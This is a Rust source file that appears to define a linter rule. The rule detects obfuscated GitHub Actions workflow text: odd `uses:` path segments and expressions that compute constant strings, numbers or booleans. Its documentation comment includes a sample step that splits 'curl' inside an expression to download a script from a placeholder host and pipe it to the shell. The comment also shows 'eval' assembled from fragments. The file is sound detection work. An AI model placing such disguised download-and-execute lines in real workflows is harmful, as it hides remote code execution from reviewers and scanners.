use github_actions_expressions::Expr;
use jobzero_core::{Confidence, Family, Severity, declare_rule, expectation};

use crate::audit::{Cx, evidence};
use jobzero_core::check::Sink;
use crate::source::expressions;
use crate::uses::Uses;

declare_rule! {
    /// ## What it finds
    /// Workflow text written to hide what it does: a `uses:` path with `.`/`..` or empty
    /// components (`actions/checkout/./@v4`, `org/repo/../other@v1`), and expressions that
    /// compute a constant (`${{ 'curl' }}`, `${{ format('{0}{1}', 'ev', 'al') }}`,
    /// `${{ true && false }}`).
    ///
    /// ## Why it matters
    /// Reviewers and scanners read text; obfuscated references and constants assembled at
    /// run time slip past both. Legitimate workflows have no reason to write them.
    ///
    /// ## Example
    /// ```yaml
    /// - uses: actions/checkout/./@v4
    /// - run: ${{ 'cu' }}rl https://example.com/x | sh
    /// ```
    ///
    /// ## Remediation
    /// Write the reference and the text plainly.
    ///
    /// ## References
    /// - CWE-506
    /// - [zizmor: obfuscation](https://docs.zizmor.sh/audits/#obfuscation)
    pub static RULE = {
        id: "pipeline/obfuscation",
        code: "CI017",
        title: "obfuscated workflow text",
        family: Family::Pipeline,
        severity: Severity::Low,
        confidence: Confidence::High,
        expectation: &expectation::CODE_ANALYSIS,
    }
}

pub(crate) fn check(cx: &Cx<'_>, out: &mut Sink) {
    for (node, route) in cx.scalars() {
        let Some(text) = node.as_str() else { continue };
        if route.ends_with(".uses")
            && let Some(Uses::Repository(r)) = Uses::parse(text)
            && let Some(sub) = r.subpath.or(Some(""))
        {
            let path = sub.trim_end_matches('/');
            let odd = path.split('/').any(|c| c == "." || c == "..")
                || (!path.is_empty() && path.split('/').any(str::is_empty))
                || r.subpath.is_some_and(|s| s.ends_with('/'));
            if odd {
                out.push(
                    cx.at(&RULE, node, &route)
                        .message(format!("`{text}` hides the action's real path"))
                        .evidence(evidence(&route, text)),
                );
            }
        }
        for e in expressions(text) {
            let Ok(parsed) = Expr::parse(e.body) else {
                continue;
            };
            for (sub, value) in parsed.consteval_subexprs() {
                // A bare `true` is common and harmless, and `fromJSON('[…]')` builds a list, not
                // a disguise. Text or numbers assembled from constants are, and so is a
                // boolean computed by operators from constants (`true && false`).
                let raw = sub.origin.raw;
                let computed_boolean = matches!(value, github_actions_expressions::Evaluation::Boolean(_))
                    && ["&&", "||", "==", "!=", "!", ">", "<"]
                        .iter()
                        .any(|op| raw.contains(op));
                if !computed_boolean
                    && !matches!(
                        value,
                        github_actions_expressions::Evaluation::String(_)
                            | github_actions_expressions::Evaluation::Number(_)
                    )
                {
                    continue;
                }
                out.push(
                    cx.at(&RULE, node, &route)
                        .message(format!("`{raw}` computes a constant; write it plainly"))
                        .evidence(evidence(&route, raw)),
                );
            }
            if matches!(
                parsed.inner,
                Expr::Literal(github_actions_expressions::literal::Literal::String(_))
            ) {
                let raw = e.raw(text);
                out.push(
                    cx.at(&RULE, node, &route)
                        .message(format!("`{raw}` wraps a constant string in an expression"))
                        .evidence(evidence(&route, raw)),
                );
            }
        }
    }
}
